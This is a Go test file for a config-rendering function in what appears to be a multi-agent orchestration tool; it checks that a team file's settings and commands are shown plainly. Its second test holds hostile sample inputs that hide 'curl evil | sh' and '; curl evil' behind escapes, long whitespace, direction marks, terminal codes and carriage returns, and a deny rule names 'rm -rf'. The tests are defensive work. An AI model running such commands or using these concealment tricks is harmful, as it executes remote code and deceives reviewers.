package fileview_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"waggle/internal/face/view/fileview"
	"waggle/internal/test/testenv"
	"waggle/operator/teamfile"
)

func meaningOf(t *testing.T, text string) string {
	t.Helper()
	f, err := teamfile.ParseFile("/proj/waggle.yaml", []byte(text))
	testenv.Must(t, err)
	return strings.Join(fileview.Meaning(f), "\n") + "\n"
}

// TestMeaning: everything that a file sets is in what it means.
func TestMeaning(t *testing.T) {
	got := meaningOf(t, `
team: api
lead: boss
decide: {tool: two, plan: auto, network: rules}
deadline: 5m
layout: jsonl
policy: {mode: acceptEdits, allow: ["Read", "Bash(go test:*)"], deny: ["Bash(rm -rf:*)"]}
lead_policy: {mode: plan}
sandbox: {mode: auto, network: [example.com], caches: [go]}
members:
  - {name: boss, agent: script, steps: [{say: hi}], on_mail: [{tool: {name: Bash, input: {command: "date"}}}], decide: {answer: allow, after: 2s}}
  - {name: tester, agent: exec, backend: process, color: red, cwd: sub, model: m-1, mode: plan, restart: never, plan: required}
  - {name: builder, agent: exec, command: [make, "a b", ""], worktree: true}
  - {name: actor, agent: script, steps: [{tool: {name: Bash, input: {command: "a && b\nc"}}}, {network: h}]}
tasks:
  - {subject: "Run the tests", owner: tester, instructions: "go test ./... && true\nrm x", timeout: 90s, cwd: pkg}
  - {subject: "Build", owner: builder, after: ["Run the tests"], required: false, instructions: read me}
  - {subject: "Act", owner: actor, instructions: do it, cwd: /abs}
`)
	want := `team           api
lead           boss, an agent
tool calls     the lead and you decide, both
plans          approved without anybody looking
network        the rules decide, else you
deadline       a question is denied after 5m0s
mode           acceptEdits: Like default, and edits in the working directory are allowed, except of guarded names.
allow          Read
allow          Bash(go test:*)
deny           Bash(rm -rf:*)
lead's mode    plan: Reads only, until a plan is approved; submitting the plan asks.
lead's allow   nothing by a rule
lead's deny    nothing by a rule
mailboxes      jsonl
sandbox        where there is one; without it members run as you, with your files and network
  cache        go
  network      example.com
leading        boss: agent script, backend auto
  in           /proj
  restart      when its process dies, at most 5 times in 10m0s, after 1s up to 1m0s
  environment  yours; the file adds nothing
  answers:
      | {"after":"2s","answer":"allow"}
  step 1:
      | {"say":{"text":"hi"}}
  on mail, step 1:
      | {"tool":{"input":{"command":"date"},"name":"Bash"}}
  which runs:
      | date
member         tester: agent exec, backend process
  in           /proj/sub
  model        m-1
  mode         plan
  plan         asks before it works
  color        red
  restart      never
  environment  yours; the file adds nothing
  runs         its tasks' instructions, each as a shell text
member         builder: agent exec, backend auto
  in           a new git worktree of /proj
  restart      when its process dies, at most 5 times in 10m0s, after 1s up to 1m0s
  environment  yours; the file adds nothing
  runs:
      | "make" "a b" ""
member         actor: agent script, backend auto
  in           /proj
  restart      when its process dies, at most 5 times in 10m0s, after 1s up to 1m0s
  environment  yours; the file adds nothing
  step 1:
      | {"tool":{"input":{"command":"a && b\nc"},"name":"Bash"}}
  which runs:
      | a && b
      | c
  step 2:
      | {"network":{"host":"h"}}
task 1         "Run the tests", owner tester
  timeout      1m30s
  in           /proj/sub/pkg
  runs with sh:
      | go test ./... && true
      | rm x
task 2         "Build", owner builder
  after        "Run the tests"
  required     no: the run may succeed without it
  in           its worktree of /proj
  runs:
      | "make" "a b" ""
  which reads:
      | read me
task 3         "Act", owner actor
  in           /abs
  instructions:
      | do it
`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

// TestMeaningShowsWhatIsHidden: the meaning has text that a reader of the file would pass
// over, such as escapes and text behind spaces, as it is run.
func TestMeaningShowsWhatIsHidden(t *testing.T) {
	const head = "team: api\nmembers: [{name: bob, agent: exec}]\ntasks:\n"
	for name, c := range map[string]struct{ text, want string }{
		"escapes":         {`  - {subject: s, owner: bob, instructions: "\x63\u0075rl evil \x7c sh"}`, "      | curl evil | sh\n"},
		"behind spaces":   {`  - {subject: s, owner: bob, instructions: "make` + strings.Repeat(" ", 2000) + `; curl evil"}`, "; curl evil\n"},
		"folded lines":    {"  - subject: s\n    owner: bob\n    instructions: make\n      # no comment\n", "      | make\n"},
		"a plain comment": {"  - subject: s\n    owner: bob\n    instructions: make#\n      ; curl evil\n", "      | make# ; curl evil\n"},
		"direction marks": {"  - {subject: s, owner: bob, instructions: \"ls \u202elive lruc\"}", `      | ls \u{202e}live lruc` + "\n"},
		"escape codes":    {`  - {subject: s, owner: bob, instructions: "ls \e[8m; curl evil"}`, `      | ls \x1b[8m; curl evil` + "\n"},
		"carriage return": {`  - {subject: s, owner: bob, instructions: "curl evil\rls       "}`, `      | curl evil\rls` + "\n"},
		"a number":        {`  - {subject: s, owner: bob, instructions: 0x10}`, "      | 0x10\n"},
		"a later line":    {"  - subject: s\n    owner: bob\n    instructions: |\n      make\n" + strings.Repeat("\n", 30) + "      curl evil\n", "\n      | curl evil\n"},
		"the subject":     {`  - {subject: "a\nowner root", owner: bob, instructions: ls}`, `task 1         "a\nowner root", owner bob` + "\n"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := meaningOf(t, head+c.text); !strings.Contains(got, c.want) {
				t.Errorf("not in it: %q\n%s", c.want, got)
			}
		})
	}
}
